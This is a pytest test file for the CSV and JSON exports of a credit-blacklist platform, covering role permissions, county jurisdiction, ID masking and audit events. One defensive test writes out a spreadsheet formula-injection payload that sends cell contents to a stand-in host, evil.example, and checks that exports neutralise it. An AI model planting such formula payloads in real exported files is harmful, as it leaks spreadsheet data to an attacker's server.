"""CSV and JSON exports for the credit-information platform, read back: the permission, the
jurisdiction, masking by role, streaming and the audit event."""

import csv
import io
import json

import pytest

from wageguard.core.models import AuditEvent
from wageguard.credit import exports
from wageguard.credit.models import CreditListing
from wageguard.org.rules import Role

from .conftest import REP_ID, WORKER, WORKER_ID, listed

pytestmark = pytest.mark.django_db


def body(response) -> str:
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def test_csv_read_back(client, inspector, supervisor, clock):
    listing = listed(clock, inspector, supervisor)
    client.force_login(inspector)
    text = body(client.get("/credit/export.csv?status=current"))
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["单位名称"] == "成都失信示例建筑有限公司"
    assert row["统一社会信用代码"] == "91510100MA61R8XQ4E"
    assert row["法定代表人（主要负责人）"] == "王法人"
    assert row["法定代表人身份证号码"] == REP_ID  # inspectors need it for the platform
    assert row["列入决定书文号"] == listing.decision_document.number
    assert row["列入日期"] == listing.listed_on.isoformat()
    assert row["期满移出日期"] == listing.expires_on.isoformat()
    assert row["状态"] == "已列入"
    assert WORKER not in text and WORKER_ID not in text
    event = AuditEvent.objects.get(action="export.csv")
    assert event.after["rows"] == 1 and event.after["filter"] == {"status": "current"}


def test_json_read_back_and_the_export_permission(client, make_user, inspector, supervisor, clock):
    listing = listed(clock, inspector, supervisor)
    client.force_login(make_user("sc-auditor-credit", Role.TASKFORCE, "510000"))
    records = json.loads(body(client.get("/credit/export.json")))
    assert [r["id"] for r in records] == [listing.pk]
    assert records[0]["legal_representative_id"] == REP_ID
    auditor = make_user("wh-auditor-credit", Role.AUDITOR, "510107")
    client.force_login(auditor)
    # Auditors read everything but have no "export" verb on the credit list.
    assert client.get("/credit/export.json").status_code == 403


def test_masked_for_roles_without_need_to_know(make_user, inspector, supervisor, clock):
    """No role without need to know holds the export verb today; the record masks anyway."""
    listed(clock, inspector, supervisor)
    viewer = make_user("wh-liaison-credit", Role.LIAISON, "510107")
    row = exports.record(exports.for_export(CreditListing.objects.all()).get(), False)
    assert row["legal_representative_id"] != REP_ID and row["legal_representative_id"].endswith(
        REP_ID[-4:]
    )
    assert not exports.sees_personal_data(viewer)


def test_other_county_exports_nothing(client, make_user, inspector, supervisor, clock):
    listed(clock, inspector, supervisor)
    client.force_login(make_user("jj-export-credit", Role.INSPECTOR, "510104"))
    text = body(client.get("/credit/export.csv"))
    assert "成都失信示例" not in text and len(text.strip().splitlines()) == 1
    assert json.loads(body(client.get("/credit/export.json"))) == []
    client.force_login(make_user("cd-export-credit", Role.TASKFORCE, "510100"))
    assert "成都失信示例" in body(client.get("/credit/export.csv"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(client, inspector, supervisor, clock, start):
    """Text a unit or handler wrote is exported as text: a spreadsheet must not evaluate it."""
    listing = listed(clock, inspector, supervisor)
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
    CreditListing.objects.filter(pk=listing.pk).update(unit_name=payload, facts=payload)
    client.force_login(inspector)
    text = body(client.get("/credit/export.csv"))
    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert row["单位名称"] == "'" + payload and row["失信行为事实"] == "'" + payload
    assert row["列入日期"] == listing.listed_on.isoformat()  # plain values stay as they were
    # JSON is data, not a sheet: the platform receives the text unchanged.
    records = json.loads(body(client.get("/credit/export.json")))
    assert records[0]["unit_name"] == payload


def test_spreadsheet_safe_leaves_ordinary_cells():
    assert exports.spreadsheet_safe("成都-建筑公司") == "成都-建筑公司"
    assert exports.spreadsheet_safe(12) == 12
    assert exports.spreadsheet_safe("") == ""
    assert exports.spreadsheet_safe("-5") == "'-5"
